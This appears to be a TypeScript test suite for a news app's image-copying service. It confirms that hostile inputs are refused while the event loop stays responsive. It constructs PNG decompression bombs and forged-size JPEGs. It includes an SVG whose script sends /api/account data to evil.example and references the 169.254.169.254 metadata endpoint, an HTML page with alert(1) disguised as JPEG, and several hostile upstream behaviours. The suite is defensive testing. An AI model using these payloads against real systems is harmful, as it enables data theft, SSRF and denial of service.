import { performance } from 'node:perf_hooks';
import { crc32, deflateSync } from 'node:zlib';
import fc from 'fast-check';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type FetchOutcome, fetchOriginal } from '../../server/services/media/fetch-original';
import { inspectImage } from '../../server/services/media/inspect-image';
import { MEDIA_MAX_BYTES, MEGABYTE } from '../../server/services/media/media-limits';
import { type MediaOrigin, startMediaOrigin } from '../../scripts/harness/media-origin';
import { checkProperty } from './support/fuzz-property';
import { newsItem } from '../../scripts/harness/news-fixtures';
import { upsertStories } from '../../server/db/news/upsert-stories';
import { createLogger } from '../../server/logger';
import { createMetrics } from '../../server/metrics/metrics';
import { startMediaCopier } from '../../server/services/media/media-copier';
import { temporaryMediaStore } from '../../server/services/media/temporary-media-store';
import { openTestDatabase } from '../support/test-database';

/**
 * Hostile images and hostile upstreams, each refused with its reason while the process stays
 * responsive: its event loop keeps ticking (the fetch and the decoding run off it) and its memory
 * does not jump (nothing is decoded whole, nothing read past the limit).
 */
let origin: MediaOrigin;
const trusted = () => ({ privateHosts: [origin.hostPort] });

/** Bounds for a loaded 2-core machine: far above what these cases cost, far below a blocked loop or a decoded bomb. */
const LONGEST_STALL_MS = 1_500;
const RSS_GROWTH_LIMIT = 256 * MEGABYTE;
const TICK_MS = 10;

interface Watched<T> {
  result: T;
  elapsedMs: number;
  longestStallMs: number;
  rssGrowth: number;
}

/** Runs a case while a timer ticks: the longest gap between ticks is how long the event loop was held. */
async function watched<T>(run: () => Promise<T>): Promise<Watched<T>> {
  const rssBefore = process.memoryUsage.rss();
  let peakRss = rssBefore;
  const started = performance.now();
  let lastTick = started;
  let longestGap = 0;
  const tick = () => {
    const now = performance.now();
    longestGap = Math.max(longestGap, now - lastTick);
    lastTick = now;
    peakRss = Math.max(peakRss, process.memoryUsage.rss());
  };
  const ticker = setInterval(tick, TICK_MS);
  try {
    const result = await run();
    tick();
    return { result, elapsedMs: performance.now() - started, longestStallMs: Math.max(0, longestGap - TICK_MS), rssGrowth: peakRss - rssBefore };
  } finally {
    clearInterval(ticker);
  }
}

function expectResponsive(watch: Watched<unknown>) {
  expect(watch.longestStallMs, 'the event loop was held').toBeLessThan(LONGEST_STALL_MS);
  expect(watch.rssGrowth, 'memory jumped').toBeLessThan(RSS_GROWTH_LIMIT);
}

function expectFetchRefused(outcome: FetchOutcome, reason: string, retry: boolean) {
  if (outcome.ok) throw new Error(`expected a refusal, got ${outcome.body.length} bytes`);
  expect(outcome).toEqual({ ok: false, reason, retry });
}

/** Fetches from the origin (which answers it), then inspects what arrived. */
async function fetchAndInspect(path: string) {
  const fetched = await fetchOriginal(origin.url(path), trusted());
  if (!fetched.ok) throw new Error(`fetch failed: ${fetched.reason}`);
  return inspectImage(fetched.body);
}

function noise(width: number, height: number) {
  const pixels = Buffer.alloc(width * height * 3);
  for (let i = 0; i < pixels.length; i += 1) pixels[i] = (i * 2654435761) >>> 24;
  return sharp(pixels, { raw: { width, height, channels: 3 } });
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A PNG of a few hundred bytes whose header declares width × height of RGB: what it would cost decoded is the bomb. */
function pngBomb(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bits per channel
  header[9] = 2; // RGB
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, pngChunk('IHDR', header), pngChunk('IDAT', deflateSync(Buffer.alloc(width + 1))), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A real JPEG whose frame header (SOF) is rewritten to declare width × height: a huge JPEG as far as its header says. */
function jpegDeclaring(jpeg: Buffer, width: number, height: number): Buffer {
  const patched = Buffer.from(jpeg);
  for (let at = 2; at + 4 < patched.length; at += 2 + patched.readUInt16BE(at + 2)) {
    if (patched[at] !== 0xff) break;
    const marker = patched[at + 1];
    if (marker === 0xc0 || marker === 0xc1 || marker === 0xc2) {
      patched.writeUInt16BE(height, at + 5);
      patched.writeUInt16BE(width, at + 7);
      return patched;
    }
  }
  throw new Error('no frame header found in the JPEG');
}

const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">' +
    '<script>fetch("/api/account").then(r => r.text()).then(t => new Image().src = "https://evil.example/?" + t)</script>' +
    '<image xlink:href="http://169.254.169.254/latest/meta-data/" width="10" height="10"/></svg>',
);
const HTML_PAGE = Buffer.from('<!doctype html><html><head><title>Not found</title></head><body><script>alert(1)</script></body></html>');

let validJpeg: Buffer;
let validPng: Buffer;

beforeAll(async () => {
  origin = await startMediaOrigin({ dripMs: 1000 });
  validJpeg = await noise(400, 300).jpeg().toBuffer();
  validPng = await noise(120, 90).png().toBuffer();
  origin.serve('bomb.png', pngBomb(20_000, 20_000), 'image/png');
  origin.serve('huge.jpg', jpegDeclaring(validJpeg, 60_000, 60_000), 'image/jpeg');
  origin.serve('truncated.jpg', validJpeg.subarray(0, Math.floor(validJpeg.length * 0.6)), 'image/jpeg');
  origin.serve('truncated.png', validPng.subarray(0, Math.floor(validPng.length * 0.6)), 'image/png');
  origin.serve('logo.svg', SVG_WITH_SCRIPT, 'image/svg+xml');
  origin.serve('photo.jpg', HTML_PAGE, 'image/jpeg');
});
afterAll(() => origin?.close());

describe('hostile images are refused from their bytes', () => {
  it.each([
    ['a PNG of 661 bytes declaring 20000×20000 (a decompression bomb)', 'bomb.png', '20000×20000 pixels is more than 40 megapixels'],
    ['a JPEG declaring 60000×60000', 'huge.jpg', '60000×60000 pixels is more than 40 megapixels'],
    ['an SVG carrying a script and an external reference', 'logo.svg', 'SVG images are refused: they can carry scripts and external references'],
    ['an HTML page served as image/jpeg, named .jpg', 'photo.jpg', 'not an image in an accepted format (JPEG, PNG, WebP, GIF, AVIF/HEIF or TIFF)'],
  ])('%s', async (_, name, reason) => {
    const watch = await watched(() => fetchAndInspect(`/images/${name}`));
    expect(watch.result).toEqual({ ok: false, reason });
    expectResponsive(watch);
  });

  it.each([
    ['a truncated JPEG', 'truncated.jpg'],
    ['a truncated PNG', 'truncated.png'],
  ])('%s, found by decoding it', async (_, name) => {
    const watch = await watched(() => fetchAndInspect(`/images/${name}`));
    expect(watch.result).toMatchObject({ ok: false, reason: expect.stringMatching(/^the image could not be decoded \(truncated or damaged\): \S/) });
    expectResponsive(watch);
  });
});

describe('hostile upstreams are cut off with their reason', () => {
  it('a 0-byte answer', async () => {
    const watch = await watched(() => fetchOriginal(origin.url('/empty'), trusted()));
    expectFetchRefused(watch.result, 'answered with an empty body', false);
    expectResponsive(watch);
  });

  it('a slow drip of one byte a second, ended at the time limit, its connection closed', async () => {
    const watch = await watched(() => fetchOriginal(origin.url('/drip'), { ...trusted(), limits: { timeLimitMs: 1_500 } }));
    expectFetchRefused(watch.result, 'took longer than 1.5 s', true);
    // Not before the limit, and not long after it even on a loaded machine.
    expect(watch.elapsedMs).toBeGreaterThanOrEqual(1_450);
    expect(watch.elapsedMs).toBeLessThan(10_000);
    expectResponsive(watch);
    await expect.poll(() => origin.openConnections()).toBe(0);
  });

  it('a redirect loop', async () => {
    const watch = await watched(() => fetchOriginal(origin.url('/loop/a'), trusted()));
    expectFetchRefused(watch.result, 'redirects in a loop', false);
    expectResponsive(watch);
  });

  it('a Content-Length over the limit, refused before reading the body, its connection closed', async () => {
    const watch = await watched(() => fetchOriginal(origin.url('/huge-declared'), trusted()));
    expectFetchRefused(watch.result, `larger than ${MEDIA_MAX_BYTES / MEGABYTE} MB`, false);
    expectResponsive(watch);
    await expect.poll(() => origin.openConnections()).toBe(0);
  });

  it('an endless body, counted while it streams and cut at the limit', async () => {
    const watch = await watched(() => fetchOriginal(origin.url('/endless'), trusted()));
    expectFetchRefused(watch.result, `larger than ${MEDIA_MAX_BYTES / MEGABYTE} MB`, false);
    expectResponsive(watch);
    await expect.poll(() => origin.openConnections()).toBe(0);
  });

  it('an endless body under a smaller injected limit', async () => {
    const watch = await watched(() => fetchOriginal(origin.url('/endless'), { ...trusted(), limits: { maxBytes: MEGABYTE } }));
    expectFetchRefused(watch.result, 'larger than 1 MB', false);
    expectResponsive(watch);
    await expect.poll(() => origin.openConnections()).toBe(0);
  });
});

/** The first bytes of each accepted format, so that random bytes after them reach sharp's decoders. */
const SIGNATURES = [
  [0xff, 0xd8, 0xff],
  [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
  [0x47, 0x49, 0x46, 0x38, 0x39, 0x61],
  [0x52, 0x49, 0x46, 0x46, 0, 0, 0, 0, 0x57, 0x45, 0x42, 0x50],
  [0, 0, 0, 0x1c, 0x66, 0x74, 0x79, 0x70, 0x61, 0x76, 0x69, 0x66],
  [0x49, 0x49, 0x2a, 0x00],
  [0x4d, 0x4d, 0x00, 0x2a],
].map((bytes) => Uint8Array.from(bytes));

describe('random bytes', () => {
  it('are refused cleanly, never throwing, with the event loop free', async () => {
    const bytes = fc.oneof(
      fc.uint8Array({ maxLength: 4096 }),
      fc.tuple(fc.constantFrom(...SIGNATURES), fc.uint8Array({ maxLength: 4096 })).map(([signature, rest]) => Buffer.concat([signature, rest])),
    );
    const watch = await watched(() =>
      checkProperty({ seed: 31501, numRuns: 40 }, bytes, async (body) => {
        const inspection = await inspectImage(Buffer.from(body));
        expect(inspection).toEqual({ ok: false, reason: expect.any(String) });
      }),
    );
    expectResponsive(watch);
  });

  it('in a valid image (bytes changed, or cut short) are refused or read, never throwing', async () => {
    const damaged = fc.tuple(fc.constantFrom(validJpeg, validPng), fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 8 }), fc.nat());
    await checkProperty({ seed: 31502, numRuns: 30 }, damaged, async ([image, changes, cut]) => {
      const body = Buffer.from(image);
      for (const [at, value] of changes) body[at % body.length] = value;
      const inspection = await inspectImage(body.subarray(0, Math.max(1, body.length - (cut % 64))));
      if (inspection.ok) expect(inspection.width * inspection.height).toBeGreaterThan(0);
      else expect(inspection.reason).toMatch(/\S/);
    });
  });

  // No http: prefix: a random host name would be looked up in DNS.
  it('as an address are refused without a request', async () => {
    const address = fc.tuple(fc.constantFrom('', 'ftp:', 'file:', 'data:', 'javascript:', 'gopher:', 'ws:', '//'), fc.string({ maxLength: 40 })).map(([scheme, rest]) => scheme + rest);
    const seen = origin.connections();
    await checkProperty({ seed: 31503, numRuns: 60 }, address, async (url) => {
      const outcome = await fetchOriginal(url, { privateHosts: [] });
      expect(outcome).toMatchObject({ ok: false, retry: expect.any(Boolean), reason: expect.stringMatching(/\S/) });
    });
    expect(origin.connections()).toBe(seen);
  });
});

describe('through the copier, each is recorded as failed with its reason, and the process stays responsive', () => {
  it('every hostile image and upstream, with no retry left', async () => {
    const db = await openTestDatabase();
    const copier = startMediaCopier({
      db,
      store: temporaryMediaStore(),
      logger: createLogger('silent'),
      metrics: createMetrics(db).media,
      privateHosts: [origin.hostPort],
      announce: async () => undefined,
      retryDelaysMs: [],
      fetchLimits: { timeLimitMs: 1_500 },
    });
    try {
      const paths = ['/images/bomb.png', '/images/truncated.jpg', '/images/logo.svg', '/images/photo.jpg', '/empty', '/drip', '/loop/a', '/endless', 'http://169.254.169.254/latest/meta-data/'];
      await upsertStories(db, [newsItem({ img_urls: paths.map((path) => (path.startsWith('http') ? path : origin.url(path))) })]);
      const watch = await watched(() => copier.drained());
      expectResponsive(watch);
      const rows = await db.query<{ url: string; state: string; reason: string }>('SELECT url, state, reason FROM media_sources ORDER BY url');
      const byPath = Object.fromEntries(rows.map((row) => [row.url.replace(origin.url(''), ''), [row.state, row.reason]]));
      expect(byPath).toEqual({
        '/images/bomb.png': ['failed', '20000×20000 pixels is more than 40 megapixels'],
        '/images/truncated.jpg': ['failed', expect.stringMatching(/^the image could not be decoded \(truncated or damaged\)/)],
        '/images/logo.svg': ['failed', 'SVG images are refused: they can carry scripts and external references'],
        '/images/photo.jpg': ['failed', 'not an image in an accepted format (JPEG, PNG, WebP, GIF, AVIF/HEIF or TIFF)'],
        '/empty': ['failed', 'answered with an empty body'],
        '/drip': ['failed', 'took longer than 1.5 s'],
        '/loop/a': ['failed', 'redirects in a loop'],
        '/endless': ['failed', `larger than ${MEDIA_MAX_BYTES / MEGABYTE} MB`],
        'http://169.254.169.254/latest/meta-data/': ['failed', expect.stringContaining('169.254.169.254')],
      });
      expect(await db.query('SELECT hash FROM media_objects')).toEqual([]);
    } finally {
      await copier.stop();
      await db.close();
    }
  });
});
